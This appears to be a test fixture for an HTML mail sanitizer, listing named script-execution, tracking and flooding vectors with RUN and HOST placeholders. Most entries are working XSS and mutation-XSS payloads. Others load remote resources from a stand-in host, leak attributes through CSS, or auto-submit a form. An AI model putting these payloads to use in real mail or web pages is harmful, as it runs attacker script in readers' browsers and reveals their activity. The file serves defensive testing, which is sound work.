/**
 * HTML mails of attackers and trackers: what runs a script, what tells a host that the mail was opened, and what breaks a
 * reader. Each would call `RUN` or load something from `HOST`, which the test replaces.
 */
export interface MailVector {
  name: string;
  html: string;
}

const nested = (tag: string, times: number, inner: string) => `<${tag}>`.repeat(times) + inner;

const scripts: { [name: string]: string } = {
  'script element': '<script>RUN</script>',
  'script from a host': '<script src="HOST/script.js"></script>',
  'script in capitals with a slash': '<SCRIPT/x>RUN</SCRIPT>',
  'module script': '<script type="module">RUN</script>',
  'script split by a comment': '<scr<!-- -->ipt>RUN</script><script>RUN</script >',
  'script after an unclosed comment': '<!--><script>RUN</script>-->',
  'script in CDATA': '<![CDATA[<script>RUN</script>]]><script>RUN</script>',
  'script after a conditional comment': '<!--[if mso]>x<![endif]--><script>RUN</script>',
  'image onerror': '<img src="data:image/png,broken" onerror="RUN">',
  'image onerror without quotes': '<img/src=x:/onerror=RUN//>',
  'image onload with a data picture':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="RUN">',
  'attribute quote break': '<img alt="a\'b`" title=\'"><script>RUN</script>\' src=x: onerror="RUN">',
  'body onload': '<body onload="RUN">x</body>',
  'body onpageshow': '<body onpageshow=RUN>',
  'svg onload': '<svg onload="RUN"></svg>',
  'svg script': '<svg><script>RUN</script></svg>',
  'svg animate onbegin': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
  'svg use with data':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN xmlns=http://www.w3.org/2000/svg></svg>#x"></svg>',
  'svg foreignObject':
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"></foreignObject></svg>',
  'svg style mutation': '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
  'math annotation-xml':
    '<math><annotation-xml encoding="text/html"><img src=x: onerror=RUN></annotation-xml></math>',
  'math form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
  'textarea mutation': '<textarea></textarea/><img src=x: onerror=RUN></textarea>',
  'title mutation': '<title><a title="</title><img src=x: onerror=RUN>"></a>',
  'xmp mutation': '<xmp><p title="</xmp><img src=x: onerror=RUN>">',
  'template content':
    '<template shadowrootmode="open"><img src=x: onerror=RUN></template><div><template shadowrootmode="open"><script>RUN</script></template></div>',
  'select mutation': '<select><style></select><img src=x: onerror=RUN></style>',
  'table mutation': '<table><td><svg><desc><td><img src=x: onerror=RUN></table>',
  'frameset onload': '<frameset onload="RUN"><frame src="javascript:RUN"></frameset>',
  'iframe javascript': '<iframe src="javascript:parent.frameRan=1;RUN"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
  'object javascript': '<object data="javascript:RUN"></object>',
  'embed html': '<embed src="data:text/html,<script>RUN</script>">',
  'details ontoggle': '<details open ontoggle="RUN">x</details>',
  'input autofocus': '<input autofocus onfocus="RUN">',
  'marquee onstart': '<marquee onstart="RUN">x</marquee>',
  'style animation handler':
    '<style>@keyframes x{}</style><div style="animation-name:x;animation-duration:1ms" onanimationstart="RUN">x</div>',
  'content-visibility handler':
    '<a style="content-visibility:auto;display:block" oncontentvisibilityautostatechange="RUN">x</a>',
  'video source onerror': '<video><source onerror="RUN"></video>',
  'popover handler': '<button popovertarget="x">x</button><div popover id="x" onbeforetoggle="RUN">x</div>',
  'meta refresh to javascript': '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  'meta refresh to data': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
  'base javascript': '<base href="javascript:RUN//"><a href="#">x</a>',
  'link javascript': '<a id="go" href="javascript:RUN">click</a>',
  'link javascript with a tab': '<a href="java\tscript:RUN">click</a>',
  'link javascript with entities': '<a href="&#106;avascript&colon;RUN">click</a>',
  'link javascript with a control character': '<a href="\u0001javascript:RUN">click</a>',
  'link data': '<a href="data:text/html,<script>RUN</script>">click</a>',
  'link vbscript': '<a href="vbscript:RUN">click</a>',
  'form action javascript': '<form action="javascript:RUN"><button autofocus>x</button></form>',
  'button formaction': '<form><button formaction="javascript:RUN">x</button></form>',
  'style expression':
    '<div style="width:expression(RUN);behavior:url(HOST/x.htc);-moz-binding:url(HOST/x.xml#x)">x</div>',
  'style element break':
    '<style>a{}</style/><img src=x: onerror=RUN></style><style><img src="</style><img src=x: onerror=RUN>">',
  'UTF-7 script': '<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-',
  'null byte in a tag': '<scr\u0000ipt>RUN</scr\u0000ipt><img src=x: on\u0000error=RUN>',
  'overlong attribute name': `<img ${'a'.repeat(5_000)}="x" src=x: onerror="RUN">`,
  'processing instruction': '<?xml-stylesheet href="javascript:RUN"?><img src=x: onerror=RUN>',
  'deep nesting': nested('div', 3_000, '<img src=x: onerror=RUN>'),
  'deep nesting of tables': nested('table><tr><td', 1_000, '<script>RUN</script>'),
};

const trackers: { [name: string]: string } = {
  'tracking pixel': '<img src="HOST/pixel.gif" width="1" height="1">',
  'remote picture': '<img src="HOST/picture.png" width="300">',
  'protocol-relative picture': '<img src="//HOSTNAME/picture.png">',
  'picture with a tab in its address': '<img src="ht\ttp://HOSTNAME/tab.png">',
  srcset:
    '<img srcset="HOST/a.png 1x, HOST/b.png 2x"><picture><source srcset="HOST/c.png"><img src="cid:none"></picture>',
  'lazy picture': '<img loading="eager" fetchpriority="high" src="HOST/eager.png">',
  'body background': '<body background="HOST/back.png">x</body>',
  'table background':
    '<table background="HOST/table.png"><tr><td background="HOST/cell.png">x</td></tr></table>',
  'style background': '<div style="background:url(HOST/style.png)">x</div>',
  'style background with escapes': '<div style="background:\\75 rl(HOST/escaped.png)">x</div>',
  'style with a comment':
    '<div style="background:u/**/rl(HOST/c.png);background-image:url/**/(HOST/d.png)">x</div>',
  'style image-set': '<div style="background-image:image-set(\'HOST/set.png\' 1x)">x</div>',
  'list style and cursor':
    '<ul style="list-style-image:url(HOST/list.png);cursor:url(HOST/c.cur),auto"><li>x</ul>',
  'generated content': '<style>p::before{content:url(HOST/content.png)}</style><p>x</p>',
  'style import': '<style>@import url("HOST/import.css");@import "HOST/import2.css" screen;</style>',
  'style import with escapes': '<style>@\\69mport url(HOST/escaped.css);</style>',
  'font face': '<style>@font-face{font-family:x;src:url(HOST/font.woff2)}body{font-family:x}</style>x',
  'attribute leak by selectors':
    '<style>a[href^="h"]{background:url(HOST/leak)}</style><a href="https://example.com">x</a>',
  'media query leak': '<style>@media (min-width:1px){body{background:url(HOST/media.png)}}</style>',
  'link stylesheet': '<link rel="stylesheet" href="HOST/style.css">',
  'link preload':
    '<link rel="preload" as="image" href="HOST/preload.png"><link rel="modulepreload" href="HOST/module.js">',
  'link prefetch and preconnect':
    '<link rel="prefetch" href="HOST/prefetch"><link rel="dns-prefetch" href="HOST"><link rel="preconnect" href="HOST">',
  'link icon and manifest':
    '<link rel="icon" href="HOST/icon.png"><link rel="manifest" href="HOST/manifest.json">',
  'speculation rules': '<script type="speculationrules">{"prerender":[{"urls":["HOST/prerender"]}]}</script>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=HOST/refresh">',
  'base with relative pictures': '<base href="HOST/base/"><img src="relative.png">',
  'iframe of a host': '<iframe src="HOST/frame"></iframe>',
  'object of a host':
    '<object data="HOST/object.swf"><embed src="HOST/embed.swf"></object><applet code="HOST/x.class"></applet>',
  'video with poster':
    '<video poster="HOST/poster.png" src="HOST/video.mp4" autoplay preload="auto"><track src="HOST/track.vtt" default></video>',
  'audio autoplay': '<audio src="HOST/audio.mp3" autoplay preload="auto"></audio>',
  'input image': '<form action="HOST/form"><input type="image" src="HOST/input.png"></form>',
  'svg image and use':
    '<svg><image href="HOST/svg.png"/><use href="HOST/use.svg#x"/><feImage href="HOST/fe.png"/></svg>',
  'svg filter in a style':
    '<div style="filter:url(HOST/filter.svg#x);mask:url(HOST/mask.svg);clip-path:url(HOST/clip.svg#x)">x</div>',
  'cid that leads away': '<img src="cid:HOST/x"><img src="cid:../../secret">',
  'blob and filesystem': '<img src="blob:HOST/1"><img src="filesystem:HOST/1"><img src="file:///etc/passwd">',
  'link with ping': '<a href="https://example.com" ping="HOST/ping">x</a>',
  'form that sends itself':
    '<form action="HOST/post" method="post"><input name="a" value="b"><button autofocus>Send</button></form>',
  'MHTML picture':
    '<img src="mhtml:HOST/x!y"><bgsound src="HOST/sound.wav"><img dynsrc="HOST/d.avi" lowsrc="HOST/l.png">',
  'XML namespace picture':
    '<html xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="HOST/vml.png"/><v:imagedata src="HOST/vml2.png"/></html>',
};

const floods: { [name: string]: string } = {
  '5 MB of markup': `${`<p style="color:red">${'x <b>y</b> '.repeat(500)}</p>`.repeat(900)}<script>RUN</script>`,
  'thousands of unclosed styles': `${'<style>'.repeat(20_000)}<img src=x: onerror=RUN>`,
  'fixed overlay':
    '<div style="position:fixed;inset:0;z-index:9;background:#fff">Your session has ended</div>',
};

/** `host` without a slash at its end; `run` is the code that a script would run, in JavaScript without double quotes. */
export function mailVectors(host: string, run: (name: string) => string): MailVector[] {
  return Object.entries({ ...scripts, ...trackers, ...floods }).map(([name, html]) => ({
    name,
    html: html
      .replaceAll('HOSTNAME', host.replace(/^https?:\/\//, ''))
      .replaceAll('HOST', host)
      .replaceAll('RUN', run(name)),
  }));
}
